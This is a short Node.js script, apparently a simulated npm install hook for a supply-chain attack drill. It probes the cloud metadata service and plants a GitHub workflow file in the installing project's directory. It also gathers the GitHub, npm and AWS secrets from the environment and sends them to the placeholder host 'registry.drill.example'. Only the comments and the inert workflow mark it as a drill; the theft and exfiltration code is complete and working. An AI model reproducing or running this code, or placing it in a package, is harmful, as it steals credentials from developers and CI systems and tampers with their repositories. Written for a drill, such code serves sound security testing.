const fs = require("fs");
const http = require("http");
const https = require("https");
const path = require("path");

// The address of every cloud's metadata service; a sandbox has no way to it.
const metadata = http.get({ host: "169.254.169.254", path: "/latest/meta-data/", timeout: 2000 }, () => {});
metadata.on("error", () => {});
metadata.on("timeout", () => metadata.destroy());

const workflows = path.join(process.env.INIT_CWD || process.cwd(), ".github", "workflows");
fs.mkdirSync(workflows, { recursive: true });
fs.writeFileSync(
  path.join(workflows, "drill.yml"),
  "# A drill: this workflow is never started and has no jobs.\non: workflow_dispatch\njobs: {}\n"
);

const tokens = { github: process.env.GITHUB_TOKEN, npm: process.env.NPM_TOKEN, aws: process.env.AWS_SECRET_ACCESS_KEY };
const publish = https.request({
  host: "registry.drill.example",
  path: "/drill-victim",
  method: "PUT",
  headers: { authorization: `Bearer ${tokens.npm}`, "content-type": "application/json" },
});
publish.on("error", () => {});
publish.end(JSON.stringify({ _id: "drill-victim", found: tokens }));
